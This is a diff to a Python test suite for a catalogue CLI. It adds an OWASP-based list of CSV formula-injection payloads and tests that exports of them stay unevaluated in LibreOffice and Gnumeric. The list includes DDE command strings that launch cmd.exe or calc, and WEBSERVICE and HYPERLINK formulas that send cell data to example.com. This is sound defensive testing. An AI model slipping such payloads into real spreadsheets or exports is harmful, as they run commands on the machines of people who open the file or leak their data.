@@ -26,6 +26,15 @@ NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 HARD = ["0005", "1E5", "-2147024891", "1-2", "MAR1", "TRUE", "#N/A", "1.5", "9999999999999999", "=1+1", "+1+x", "@SUM(1)",
         "\uff1d1+1", "'=1+1", "="  '"0005"', "a;b,c", 'say "so"', "<b>&amp;</b>", "_x000D_", "ё «»", "\U0001f600", "0x80070005",
         '=HYPERLINK("http://example.com","x")', "=cmd|' /C calc'!A0", "x" * 40000, "{[=1]}", "tail\\", "a|b`c*d_e"]
+# What is known to be tried on whoever opens a CSV file (OWASP, "CSV Injection", and its variations).
+PAYLOADS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(A1:A9)", "=1+1;", " =1+1", "   =1+1", "\u00a0=1+1", "\u200b=1+1", "\u3000=1+1",
+    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "=MSEXCEL|'..\\..\\cmd.exe'!''",
+    '=HYPERLINK("http://example.com?x="&A1,"click")', '=HYPERLINK("http://example.com")', '=WEBSERVICE("http://example.com/"&A1)',
+    '=IMPORTXML("http://example.com","//a")', '=IMAGE("http://example.com/a.png")', "=NOW()", "=RAND()", "=A1", "=$A$1",
+    "=IFERROR(1/0,2)", '=CONCATENATE("a","b")', '="a"&"b"', "={1,2}", "=-1", "=+1", "+-1", "-+1", "@A1", '"=1+1', "'=1+1", "''=1+1",
+]
 
 
 def run(*command, **options):
@@ -228,6 +237,43 @@ class Tables(unittest.TestCase):
                               stderr=subprocess.PIPE, encoding="utf-8").stderr
         self.assertIn("hard/24 xxxxxxxxxxxxxxxxxxxx", told)
         self.assertIn("too long for a cell", told)
+
+    def payload_file(self):
+        pack = os.path.join(self.folder, "payloads")
+        if not os.path.isdir(pack):
+            os.mkdir(pack)
+            text = {"en": "p", "ru": "п"}
+            # A catalogue has no text that begins with a space: such a text is looked at in the test of the domain.
+            records = [{"code": f"P{number}", "category": "all", "message": {"en": payload.strip() or "x", "ru": "п"}}
+                       for number, payload in enumerate(PAYLOADS)]
+            with open(os.path.join(pack, "payloads.json"), "w", encoding="utf-8") as file:
+                json.dump({"slug": "payloads", "order": 1, "name": text, "product": text, "original_language": "en",
+                           "source": {"title": "t", "retrieved": "2026-01-01"}, "categories": [{"id": "all", "name": text}],
+                           "records": records}, file)
+        catalogue = os.path.join(self.folder, "payloads.sqlite")
+        run(CLI, "catalog", "build", pack, "--output", catalogue)
+        path = os.path.join(self.folder, "payloads.csv")
+        run(CLI, "export", "--catalog", catalogue, "--preset", "excel", "--separator", ",", "--columns", "code,message_en",
+            "--output", path)
+        return path
+
+    def check_payloads(self, rows):
+        """Each comes back as it was; with the guard still on or taken off by the program, but never computed."""
+        self.assertEqual(len(rows) - 1, len(PAYLOADS))
+        found = {code: text for code, text in rows[1:]}
+        for number, payload in enumerate(PAYLOADS):
+            shown = found[f"P{number}"]
+            self.assertIn(payload.strip(), (shown, unguarded(shown)))
+
+    @unittest.skipUnless(has("soffice"), "LibreOffice is not here")
+    def test_payloads_in_office(self):
+        self.check_payloads(self.office(self.payload_file(), "txt", "Text - txt - csv (StarCalc):44,34,76,1"))
+
+    @unittest.skipUnless(has("ssconvert"), "Gnumeric is not here")
+    def test_payloads_in_gnumeric(self):
+        out = os.path.join(self.folder, "gnumeric.csv")
+        run("ssconvert", "--import-type=Gnumeric_stf:stf_csvtab", self.payload_file(), out)
+        self.check_payloads(self.read_csv(out))
 
     @unittest.skipUnless(has("soffice"), "LibreOffice is not here")
     def test_office(self):
